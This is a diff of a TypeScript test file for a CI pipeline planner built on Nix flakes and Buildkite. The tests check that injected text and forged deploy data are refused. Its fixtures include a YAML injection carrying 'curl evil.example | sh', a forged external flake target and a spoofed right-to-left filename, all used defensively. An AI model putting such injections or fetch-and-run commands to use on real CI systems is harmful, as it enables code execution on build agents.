@@ -1,13 +1,16 @@
 import { assert, describe, it } from "@effect/vitest"
-import { execFileSync } from "node:child_process"
-import { mkdtempSync } from "node:fs"
+import { execFileSync, spawnSync } from "node:child_process"
+import { mkdtempSync, readFileSync } from "node:fs"
 import { tmpdir } from "node:os"
 import { join } from "node:path"
 import { inject } from "vitest"
 import { parse } from "yaml"
+import { runBuild } from "../support/buildkiteBuild.ts"
 import { fixtureFlake, FixtureRepo } from "../support/fixtureRepo.ts"
+import { injection } from "../support/hostile.ts"
 import { interpolatePipeline } from "../support/interpolate.ts"
-import { pipelineErrors, yamlPipelineErrors } from "../support/pipelineSchema.ts"
+import { stubBin } from "../support/paths.ts"
+import { parseWithLibyaml, pipelineErrors, yamlPipelineErrors } from "../support/pipelineSchema.ts"
 import { runTool } from "../support/tool.ts"
 
 /**
@@ -20,6 +23,20 @@ interface Versions {
   readonly other?: string
   readonly extra?: boolean
   readonly conditions?: string
+}
+
+/** A Nix string literal of text whose only control characters are `\n`, `\r` and `\t` (JSON escapes them as Nix does). */
+const nixString = (text: string) => JSON.stringify(text).replaceAll("${", "\\${")
+
+/** The STEP_DATA `flakeAt`'s action declares: what its trigger step carries. */
+const declaredStepData = {
+  version: 1,
+  action: "deployBot",
+  steps: [
+    { type: "run", name: "staging", label: "Deploy to staging", target: ".#apps.x86_64-linux.deploy", retries: 0 },
+    { type: "block", label: null, prompt: null },
+    { type: "run", name: "production", label: "Deploy to production", target: ".#apps.x86_64-linux.deploy", retries: 2 }
+  ]
 }
 
 // `app` depends on `lib`; `default` is `app` under another name.
@@ -245,15 +262,7 @@ describe("tool plan: tags, branches and pull requests", () => {
     assert.strictEqual(trigger.build.message, "Deploy deployBot from repo#42: app changes")
     assert.strictEqual(trigger.build.env.DENBEIGH_DEPLOY, "true")
     assert.strictEqual(trigger.build.env.DENBEIGH_DEPLOY_ACTION_NAME, "deployBot")
-    assert.deepStrictEqual(JSON.parse(trigger.build.env.STEP_DATA), {
-      version: 1,
-      action: "deployBot",
-      steps: [
-        { type: "run", name: "staging", label: "Deploy to staging", target: ".#apps.x86_64-linux.deploy", retries: 0 },
-        { type: "block", label: null, prompt: null },
-        { type: "run", name: "production", label: "Deploy to production", target: ".#apps.x86_64-linux.deploy", retries: 2 }
-      ]
-    })
+    assert.deepStrictEqual(JSON.parse(trigger.build.env.STEP_DATA), declaredStepData)
   })
 
   it("does not deploy a tag whose commit is on no matching branch", () => {
@@ -378,7 +387,6 @@ describe("tool plan: upload, deploy mode and hostile text", () => {
       step: "Ship \"it\": 'now' # & * ! | > % @ ${X:-x} $1",
       block: "Really?\nReally: yes - $$ done"
     }
-    const nixString = (text: string) => JSON.stringify(text).replaceAll("${", "\\${")
     const flake = (lib: string) => fixtureFlake({
       outputs: `packages.x86_64-linux.lib = drv "lib" [ "${lib}" ];\n      apps.x86_64-linux.deploy = app "deploy";`,
       ciActions: `ci.lib.mkActions { inherit self; actions = {
@@ -474,5 +482,270 @@ describe("tool plan: bad input", () => {
     nested.commit("second", { "infra/flake.nix": flakeAt({ other: "2" }) })
     const plan = planJson(nested.dir, ["--flake", join(nested.dir, "infra")])
     assert.strictEqual(buildCommand(plan), `nix run "$\${TOOL_TARGET}" -- build -- './infra#packages.x86_64-linux.other'`)
+  })
+})
+
+/** Run each part's uploading step as the agent would (`bash -e -c`), against the stand-in agent and the build's meta-data. */
+const runUploaderStep = (agentState: string) => (step: { readonly command: string }): ReadonlyArray<string> => {
+  const log = join(mkdtempSync(join(tmpdir(), "ci-uploader-")), "calls.jsonl")
+  const run = spawnSync("bash", ["-e", "-c", step.command], {
+    encoding: "utf8",
+    env: { ...process.env, PATH: `${stubBin}:${process.env.PATH}`, CI_TEST_AGENT_LOG: log, CI_TEST_AGENT_STATE: agentState }
+  })
+  assert.strictEqual(run.status, 0, run.stderr)
+  return readFileSync(log, "utf8").split("\n").filter((line) => line !== "").map((line) => JSON.parse(line))
+    .filter((call: { args: Array<string> }) => call.args.join(" ") === "pipeline upload")
+    .map((call: { stdin: string }) => call.stdin)
+}
+
+/** What the agent reads: the upload parsed by libyaml, after checking that every parser reads it alike. */
+const asTheAgentReadsIt = (upload: string, env: Record<string, string> = {}) => {
+  assert.deepStrictEqual(yamlPipelineErrors(upload), [])
+  const [parsed] = parseWithLibyaml([upload])
+  return interpolatePipeline((parsed as { documents: Array<unknown> }).documents[0], env).value as { steps: Array<any> }
+}
+
+describe("tool plan: text a pull request controls never changes the pipeline's shape", () => {
+  const repo = newRepo()
+  // Where a pull request's flake puts free text: each the reported injection, or a YAML 1.1 scalar.
+  const text = {
+    displayName: injection("\u2028"),
+    stepLabel: injection("\u2029"),
+    blockLabel: injection("\u0085"),
+    blockPrompt: "yes",
+    secondLabel: ".inf"
+  }
+  const flake = (lib: string) => fixtureFlake({
+    outputs: `packages.x86_64-linux = { lib = drv "lib" [ "${lib}" ]; "1_000" = drv "n" [ "${lib}" ]; };
+      apps.x86_64-linux = { deploy = app "deploy"; "0x_1F" = app "hex"; };`,
+    ciActions: `ci.lib.mkActions { inherit self; actions = {
+      "1_000" = {
+        conditions = [ { changed = [ p.lib ]; } ];
+        checks = [ { name = "0b101"; displayName = ${nixString(text.displayName)}; target = a."0x_1F"; } ];
+        deploySteps = [
+          { name = "0x_1F"; label = ${nixString(text.stepLabel)}; target = a.deploy; }
+          { type = "block"; label = ${nixString(text.blockLabel)}; prompt = ${nixString(text.blockPrompt)}; }
+          { name = "2024-01-15"; label = ${nixString(text.secondLabel)}; target = a."0x_1F"; }
+        ];
+      };
+    }; }`
+  })
+  repo.commit("first", { "flake.nix": flake("1") })
+  const commit = repo.commit("second", { "flake.nix": flake("2") })
+
+  const refs = [
+    { name: "a branch with the injection", env: { BUILDKITE_BRANCH: injection("\u2028"), BUILDKITE_MESSAGE: `${injection("\u2029")}\n\nbody` } },
+    { name: "a tag with the injection", env: { BUILDKITE_TAG: `v1${injection("\u0085")}`, BUILDKITE_BRANCH: `v1${injection("\u0085")}`, BUILDKITE_MESSAGE: injection("\u0085") } },
+    { name: "YAML 1.1 numbers and booleans", env: { BUILDKITE_BRANCH: "2024_01_15", BUILDKITE_MESSAGE: "on" } }
+  ]
+
+  it.each(refs)("uploads exactly the planned steps for $name, and the deploy build its own", ({ env }) => {
+    const agentState = mkdtempSync(join(tmpdir(), "ci-agent-state-"))
+    const run = runTool(["plan", ...system], { cwd: repo.dir, env: { BUILDKITE: "true", BUILDKITE_COMMIT: commit, ...env }, agentState })
+    assert.strictEqual(run.exitCode, 0, run.stderr)
+    const uploads = run.agentCalls.filter((call) => call.args.join(" ") === "pipeline upload")
+    assert.strictEqual(uploads.length, 1)
+    const { steps } = asTheAgentReadsIt(uploads[0]!.stdin)
+
+    assert.deepStrictEqual(steps.map((step) => typeof step === "string" ? step : step.trigger !== undefined ? "trigger" : step.key), [
+      "check-0b101",
+      "wait",
+      "build-nix",
+      "wait",
+      "trigger"
+    ])
+    assert.isFalse(steps.some((step) => typeof step === "object" && "agents" in step))
+    assert.strictEqual(steps[0].label, `Check: ${text.displayName}`)
+    assert.strictEqual(steps[0].command, `nix run "\${TOOL_TARGET}" -- check --target '.#apps.x86_64-linux.0x_1F' --name 0b101`)
+    assert.strictEqual(steps[2].command, `nix run "\${TOOL_TARGET}" -- build -- '.#packages.x86_64-linux.1_000' '.#packages.x86_64-linux.lib' '.#apps.x86_64-linux.0x_1F' '.#apps.x86_64-linux.deploy'`)
+    const trigger = steps[4]
+    assert.strictEqual(trigger.trigger, "deploy")
+    assert.strictEqual(trigger.label, ":rocket: Deploy 1_000")
+    assert.strictEqual(trigger.build.branch, env.BUILDKITE_BRANCH)
+    assert.strictEqual(trigger.build.message, `Deploy 1_000: ${env.BUILDKITE_MESSAGE.split(/[\n\u0085\u2028\u2029]/)[0]}`)
+    assert.strictEqual(trigger.build.env.DENBEIGH_DEPLOY_ACTION_NAME, "1_000")
+    assert.strictEqual(trigger.build.meta_data["ci:deploy-action"], "1_000")
+    const stepData = JSON.parse(trigger.build.env.STEP_DATA)
+    assert.deepStrictEqual(stepData.steps.map((step: { label?: string | null }) => step.label), [text.stepLabel, text.blockLabel, text.secondLabel])
+
+    // The deploy build, started with the environment the trigger step gives it.
+    const deploy = runTool(["plan", ...system], { cwd: repo.dir, env: { BUILDKITE: "true", BUILDKITE_COMMIT: commit, ...trigger.build.env } })
+    assert.strictEqual(deploy.exitCode, 0, deploy.stderr)
+    const deploySteps = asTheAgentReadsIt(deploy.agentCalls.at(-1)!.stdin).steps
+    assert.deepStrictEqual(deploySteps.map((step) => step.key), ["deploy-0x_1F", "block-1", "deploy-2024-01-15"])
+    assert.strictEqual(deploySteps[0].label, text.stepLabel)
+    assert.strictEqual(deploySteps[0].env.DENBEIGH_DEPLOY_ACTION_NAME, "1_000")
+    assert.deepStrictEqual(deploySteps[1], { block: text.blockLabel, key: "block-1", prompt: "yes" })
+    assert.strictEqual(deploySteps[2].label, ".inf")
+    assert.strictEqual(deploySteps[2].command, `nix run "\${TOOL_TARGET}" -- deploy --target '.#apps.x86_64-linux.0x_1F' --name 2024-01-15`)
+  })
+})
+
+describe("tool plan: names no one means are refused at evaluation", () => {
+  const repo = newRepo()
+  const outputs = `packages.x86_64-linux.lib = drv "lib" [ "1" ];\n      apps.x86_64-linux.deploy = app "deploy";`
+  const base = repo.commit("valid", { "flake.nix": fixtureFlake({ outputs, ciActions: `ci.lib.mkActions { inherit self; actions = { }; }` }) })
+  const action = (name: string, body: string) => `ci.lib.mkActions { inherit self; actions = { ${nixString(name)} = { ${body} }; }; }`
+
+  it.each([
+    {
+      name: "a check name",
+      ciActions: action("deployBot", `checks = [ { name = ${nixString(injection("\u2028"))}; target = a.deploy; } ];`),
+      error: `ciActions.deployBot.checks[0].name: expected a name without control or invisible characters (found U+2028), got "x\\u2028  - trigger: deploy\\u2028    build:`
+    },
+    {
+      name: "a deploy step name",
+      ciActions: action("deployBot", `deploySteps = [ { name = ${nixString(injection("\u0085"))}; target = a.deploy; } ];`),
+      error: `ciActions.deployBot.deploySteps[0].name: expected a name without control or invisible characters (found U+0085), got "x\\u0085  - trigger: deploy`
+    },
+    {
+      name: "an action name",
+      ciActions: action(injection("\u2029"), `checks = [ ];`),
+      error: `error: ciActions."x\\u2029  - trigger: deploy\\u2029    build:\\u2029      env:\\u2029        STEP_DATA: '{\\"version\\":1,\\"action\\":\\"pwn\\",\\"steps\\":[]}'\\u2029  - command: curl evil.example | sh\\u2029    agents: {queue: deploy}\\u2029  - label: y": expected a name without control or invisible characters (found U+2029)`
+    },
+    {
+      name: "a package attribute name",
+      outputs: `${outputs}\n      packages.x86_64-linux.${nixString(injection("\u2028"))} = drv "evil" [ "1" ];`,
+      ciActions: action("deployBot", `checks = [ ];`),
+      error: `error: packages.x86_64-linux."x\\u2028  - trigger: deploy\\u2028    build:`
+    },
+    {
+      name: "an app attribute name",
+      outputs: `${outputs}\n      apps.x86_64-linux.${nixString("deploy\u202egnp.exe")} = app "evil";`,
+      ciActions: action("deployBot", `checks = [ ];`),
+      error: `error: apps.x86_64-linux."deploy\\u202Egnp.exe": expected an attribute name without control or invisible characters (found U+202E); rename it`
+    }
+  ])("$name with a line separator or invisible character: exit 2, naming it, nothing uploaded", (testCase) => {
+    const head = repo.commit(testCase.name, { "flake.nix": fixtureFlake({ outputs: testCase.outputs ?? outputs, ciActions: testCase.ciActions }) })
+    const run = runTool(["plan", ...system, "--base", base, "--head", head], { cwd: repo.dir, env: { BUILDKITE: "true", BUILDKITE_BRANCH: "master" } })
+    assert.strictEqual(run.exitCode, 2, run.stderr)
+    assert.include(run.stderr, testCase.error)
+    assert.deepStrictEqual(run.agentCalls, [])
+  })
+})
+
+describe("tool plan: a deploy build runs only what the flake at its commit declares", () => {
+  const repo = newRepo()
+  repo.commit("first", { "flake.nix": flakeAt() })
+  const head = repo.commit("lib 2", { "flake.nix": flakeAt({ lib: "2", conditions: `[ { changed = [ p.app ]; } ]` }) })
+  const declared = declaredStepData
+  const deployWith = (stepData: unknown, env: Record<string, string> = {}) =>
+    runTool(["plan", ...system], {
+      cwd: repo.dir,
+      env: { BUILDKITE: "true", BUILDKITE_COMMIT: head, DENBEIGH_DEPLOY: "true", STEP_DATA: typeof stepData === "string" ? stepData : JSON.stringify(stepData), ...env }
+    })
+  const withStep = (i: number, fields: Record<string, unknown>) => ({ ...declared, steps: declared.steps.map((step, j) => (i === j ? { ...step, ...fields } : step)) })
+
+  it("is what the CI build's trigger step carries", () => {
+    const ci = planJson(repo.dir, ["--head", head])
+    assert.deepStrictEqual(ci.pipeline.steps.at(-1).build.env.STEP_DATA, JSON.stringify(declared))
+    const run = deployWith(declared)
+    assert.strictEqual(run.exitCode, 0, run.stderr)
+    assert.strictEqual(asTheAgentReadsIt(run.agentCalls.at(-1)!.stdin).steps.length, 3)
+  })
+
+  it.each([
+    {
+      name: "a target in another flake",
+      stepData: withStep(0, { target: "github:evil/evil#pwn" }),
+      error: /error: STEP_DATA: expected an installable of the checked-out flake, such as \.#apps\.x86_64-linux\.deploy\n {2}at \["steps"\]\[0\]\["target"\]/
+    },
+    {
+      name: "a target outside the checkout",
+      stepData: withStep(2, { target: "./../other#apps.x86_64-linux.deploy" }),
+      error: /error: STEP_DATA: expected an installable of the checked-out flake[^\n]*\n {2}at \["steps"\]\[2\]\["target"\]/
+    },
+    {
+      name: "another target of this flake",
+      stepData: withStep(2, { target: ".#apps.x86_64-linux.lint" }),
+      error: new RegExp(`error: STEP_DATA\\.steps\\[2\\]\\.target: the flake at ${head.slice(0, 12)} declares "\\.#apps\\.x86_64-linux\\.deploy" for "deployBot", STEP_DATA has "\\.#apps\\.x86_64-linux\\.lint"`)
+    },
+    {
+      name: "no block before production",
+      stepData: { ...declared, steps: [declared.steps[0], declared.steps[2]] },
+      error: /error: STEP_DATA\.steps\[1\]\.type: the flake at \w+ declares "block" for "deployBot", STEP_DATA has "run"/
+    },
+    {
+      name: "an extra step",
+      stepData: { ...declared, steps: [...declared.steps, { type: "run", name: "pwn", label: "pwn", target: ".#apps.x86_64-linux.lint", retries: 0 }] },
+      error: /error: STEP_DATA\.steps\[3\]: the flake at \w+ declares nothing for "deployBot", STEP_DATA has \{"type":"run","name":"pwn"/
+    },
+    {
+      name: "more retries",
+      stepData: withStep(0, { retries: 10 }),
+      error: /error: STEP_DATA\.steps\[0\]\.retries: the flake at \w+ declares 0 for "deployBot", STEP_DATA has 10/
+    },
+    {
+      name: "an action the flake does not declare",
+      stepData: { ...declared, action: "pwn" },
+      error: /error: STEP_DATA\.action: the flake at \w+ declares no action "pwn" \(its actions: deployBot\)/
+    },
+    {
+      name: "a name with a line separator",
+      stepData: withStep(0, { name: injection("\u2028") }),
+      error: /error: STEP_DATA: expected a name without control or invisible characters \(found U\+2028\)\n {2}at \["steps"\]\[0\]\["name"\]/
+    },
+    {
+      name: "a NUL in a target",
+      stepData: withStep(0, { target: ".#apps.x86_64-linux.deploy\u0000x" }),
+      error: /error: STEP_DATA: the attribute name "deploy\\u0000x" cannot be written in an installable\n {2}at \["steps"\]\[0\]\["target"\]/
+    },
+    {
+      name: "a NUL in a label",
+      stepData: withStep(0, { label: "Deploy\u0000" }),
+      error: /error: STEP_DATA: expected text without NUL characters or lone surrogates\n {2}at \["steps"\]\[0\]\["label"\]/
+    },
+    {
+      name: "a lone surrogate in a block label",
+      stepData: JSON.stringify(withStep(1, { label: "x" })).replace(`"label":"x"`, `"label":"\\ud800"`),
+      error: /error: STEP_DATA: expected text without NUL characters or lone surrogates\n {2}at \["steps"\]\[1\]\["label"\]/
+    }
+  ])("refuses $name: exit 2, naming the place, nothing uploaded", ({ stepData, error }) => {
+    const run = deployWith(stepData)
+    assert.strictEqual(run.exitCode, 2, run.stderr)
+    assert.match(run.stderr, error)
+    assert.notInclude(run.stderr, "CommandLineError")
+    assert.notMatch(run.stderr, /^\s+at .*\.(ts|js|mjs):\d+/m)
+    assert.deepStrictEqual(run.agentCalls, [])
+  })
+
+  it("refuses a deploy build for a pull request", () => {
+    const run = deployWith(declared, { BUILDKITE_PULL_REQUEST: "12" })
+    assert.strictEqual(run.exitCode, 2, run.stderr)
+    assert.include(run.stderr, "error: BUILDKITE_PULL_REQUEST: this deploy build is for pull request #12; a pull request never deploys")
+    assert.deepStrictEqual(run.agentCalls, [])
+  })
+})
+
+describe("tool plan: a pipeline over 500 steps keeps every gate ahead of what follows it", () => {
+  it("uploads 499 runs with the step that uploads the rest, then the block, then production", () => {
+    const repo = newRepo()
+    const flake = (lib: string) => fixtureFlake({
+      outputs: `packages.x86_64-linux.lib = drv "lib" [ "${lib}" ];\n      apps.x86_64-linux.deploy = app "deploy";`,
+      ciActions: `ci.lib.mkActions { inherit self; actions = {
+        deployBot = {
+          conditions = [ { changed = [ p.lib ]; } ];
+          deploySteps = builtins.genList (i: { name = "run-\${toString i}"; target = a.deploy; }) 499
+            ++ [ { type = "block"; } { name = "production"; target = a.deploy; } ];
+        };
+      }; }`
+    })
+    repo.commit("first", { "flake.nix": flake("1") })
+    const head = repo.commit("second", { "flake.nix": flake("2") })
+    const [trigger] = planJson(repo.dir, ["--head", head]).pipeline.steps.filter((step) => step.trigger !== undefined)
+    // The deploy build's environment, as the trigger step gives it once Buildkite has interpolated the upload.
+    const env = { BUILDKITE: "true", BUILDKITE_COMMIT: head, ...(interpolatePipeline(trigger, {}).value as { build: { env: Record<string, string> } }).build.env }
+    const planned = (JSON.parse(runTool(["plan", "--dry-run", "--format", "json", ...system], { cwd: repo.dir, env }).stdout) as PlanJson).pipeline.steps
+    assert.strictEqual(planned.length, 501)
+
+    const agentState = mkdtempSync(join(tmpdir(), "ci-agent-state-"))
+    const run = runTool(["plan", ...system], { cwd: repo.dir, env, agentState })
+    assert.strictEqual(run.exitCode, 0, run.stderr)
+    const uploads = run.agentCalls.filter((call) => call.args.join(" ") === "pipeline upload").map((call) => call.stdin)
+    const build = runBuild(planned, uploads, runUploaderStep(agentState))
+    assert.deepStrictEqual(build.problems, [])
+    assert.deepStrictEqual(build.uploads, [500, 2])
+    assert.deepStrictEqual(build.steps, planned)
+    assert.include(run.stderr, "uploaded 501 steps (in 2 parts: each part's last step uploads the next)")
   })
 })
